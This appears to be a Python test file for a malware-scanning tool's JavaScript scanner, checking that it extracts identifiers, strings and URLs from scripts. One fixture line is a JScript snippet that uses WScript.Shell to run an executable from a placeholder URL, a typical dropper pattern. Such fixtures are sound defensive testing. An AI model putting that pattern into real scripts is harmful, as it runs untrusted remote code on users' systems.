from unhook.files.scanner import Sample
from unhook.files.scanners.javascript import SCANNER


def test_a_script_files_words_and_urls() -> None:
    source = b"new ActiveXObject('WScript.Shell').Run('https://files.test/a.exe')"
    found = SCANNER.scan(Sample(source, "js", "a.js"))
    assert found.record["javascript"] == {
        "identifiers": ["ActiveXObject", "Run"],
        "strings": ["WScript.Shell", "https://files.test/a.exe"],
        "keywords": ["new"],
    }
    assert [(each.how, each.url) for each in found.references] == [("script", "https://files.test/a.exe")]


def test_what_it_reads() -> None:
    assert SCANNER.reads(Sample(b"", "unknown", "a.JS"))
    assert not SCANNER.reads(Sample(b"", "unknown", "a.txt"))
